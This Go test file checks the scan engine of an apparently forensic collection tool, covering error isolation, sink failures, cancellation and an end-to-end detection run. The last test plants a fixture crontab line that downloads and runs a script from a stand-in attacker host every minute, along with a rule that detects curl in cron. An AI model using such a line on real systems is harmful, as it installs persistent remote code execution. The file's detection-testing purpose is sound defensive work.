package engine

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"sort"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/collectifor/collectifor/internal/scanner"
	"github.com/collectifor/collectifor/internal/scanner/factory"
	"github.com/collectifor/collectifor/internal/types"
)

type fakeScanner struct {
	name     string
	findings []types.Finding
	err      error
	calls    int
	target   scanner.Target
}

func (f *fakeScanner) Name() string { return f.name }

func (f *fakeScanner) Scan(_ context.Context, t scanner.Target) ([]types.Finding, error) {
	f.calls++
	f.target = t
	return f.findings, f.err
}

type recordingSink struct {
	batches [][]types.Finding
	err     error
}

func (s *recordingSink) StoreFindings(_ context.Context, fs []types.Finding) error {
	s.batches = append(s.batches, fs)
	return s.err
}

func mustWrite(t *testing.T, dir, name, content string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestScanWithStats_EngineErrorIsIsolated(t *testing.T) {
	root := t.TempDir()
	a := &fakeScanner{name: "signature", findings: []types.Finding{{Type: types.TypeSignature, Rule: "r"}}}
	b := &fakeScanner{name: "literal", err: errors.New("no indicator lists")}
	c := &fakeScanner{name: "structured", findings: []types.Finding{{Type: types.TypeStructured}, {Type: types.TypeStructured}}}
	sink := &recordingSink{}

	res, err := ScanWithStats(context.Background(), Config{
		Root:     root,
		Exclude:  []string{"/proc/"},
		Workers:  3,
		Scanners: []scanner.Scanner{a, b, c},
		Sink:     sink,
	})
	require.NoError(t, err)
	assert.Len(t, res.Findings, 3)
	assert.True(t, res.Failed())
	require.Contains(t, res.EngineErrors, "literal")
	assert.NotContains(t, res.EngineErrors, "signature")
	assert.Equal(t, 1, res.PerEngine["signature"].Findings)
	assert.Equal(t, 2, res.PerEngine["structured"].Findings)
	assert.Zero(t, res.PerEngine["literal"].Findings)

	for _, f := range res.Findings {
		assert.NotNil(t, f.Tags)
		assert.NotNil(t, f.Meta)
	}
	require.Len(t, sink.batches, 1)
	assert.Len(t, sink.batches[0], 3)

	absRoot, _ := filepath.Abs(root)
	assert.Equal(t, scanner.Target{Root: absRoot, Exclude: []string{"/proc/"}, Workers: 3}, c.target)
}

func TestScanWithStats_RootValidation(t *testing.T) {
	s := &fakeScanner{name: "signature"}
	file := mustWrite(t, t.TempDir(), "f.txt", "x")
	for _, root := range []string{"", filepath.Join(t.TempDir(), "missing"), file} {
		_, err := ScanWithStats(context.Background(), Config{Root: root, Scanners: []scanner.Scanner{s}})
		assert.ErrorIs(t, err, ErrRootNotDir, root)
	}
	assert.Zero(t, s.calls)
}

func TestScanWithStats_SinkFailure(t *testing.T) {
	sink := &recordingSink{err: errors.New("disk full")}
	_, err := ScanWithStats(context.Background(), Config{Root: t.TempDir(), Scanners: []scanner.Scanner{}, Sink: sink})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "disk full")
	require.Len(t, sink.batches, 1)
	assert.NotNil(t, sink.batches[0])
}

func TestScanWithStats_CancelledSkipsEngines(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	s := &fakeScanner{name: "signature"}
	res, err := ScanWithStats(ctx, Config{Root: t.TempDir(), Scanners: []scanner.Scanner{s}})
	require.NoError(t, err)
	assert.Zero(t, s.calls)
	assert.ErrorIs(t, res.EngineErrors["signature"], context.Canceled)
}

func TestScan_ReturnsFindingsOnly(t *testing.T) {
	s := &fakeScanner{name: "entropy", findings: []types.Finding{{Type: types.TypeAnomaly}}}
	fs, err := Scan(context.Background(), Config{Root: t.TempDir(), Scanners: []scanner.Scanner{s}})
	require.NoError(t, err)
	assert.Len(t, fs, 1)
}

// End-to-end over real engines on a small collection.
func TestScanWithStats_Collection(t *testing.T) {
	root := t.TempDir()
	mustWrite(t, root, "var/log/auth.log",
		"sshd[1]: Failed password for admin from 203.0.113.9 port 4242 ssh2\n"+
			"sshd[2]: Accepted publickey for ops from 198.51.100.2 port 22 ssh2\n")
	mustWrite(t, root, "file_permissions.txt", "/usr/bin/pkexec 4755 -rwsr-xr-x root:root 1 2\n")

	rules := t.TempDir()
	mustWrite(t, rules, "cron.yml", `
events:
  - name: cron-curl
    indicator: Download in cron job
    pattern: 'curl (?P<url>\S+)'
    message_template: "cron downloads {url}"
    meta_fields: [url]
    filenames: [/etc/cron]
`)
	mustWrite(t, root, "etc/crontab", "* * * * * root curl http://evil.example/x | sh\n")

	res, err := ScanWithStats(context.Background(), Config{
		Root: root,
		Engines: factory.Config{
			Structured:  factory.Structured{Enabled: true, RulesDir: rules, BuiltinAuth: true},
			Permissions: factory.Permissions{Enabled: true},
			Persistence: factory.Persistence{Enabled: true},
		},
	})
	require.NoError(t, err)
	assert.False(t, res.Failed(), "%v", res.EngineErrors)

	var rulesSeen []string
	for _, f := range res.Findings {
		rulesSeen = append(rulesSeen, f.Type+"/"+f.Rule)
	}
	sort.Strings(rulesSeen)
	assert.Equal(t, []string{
		"file_permissions/",
		"persistence/cron-every-minute",
		"persistence/cron-suspicious-command",
		"structured/cron-curl",
		"structured/ssh-auth-failure",
		"structured/ssh-login-success",
	}, rulesSeen)
	assert.Equal(t, 3, res.PerEngine["structured"].Findings)
	assert.Equal(t, 1, res.PerEngine["permissions"].Findings)
	assert.Equal(t, 2, res.PerEngine["persistence"].Findings)
}
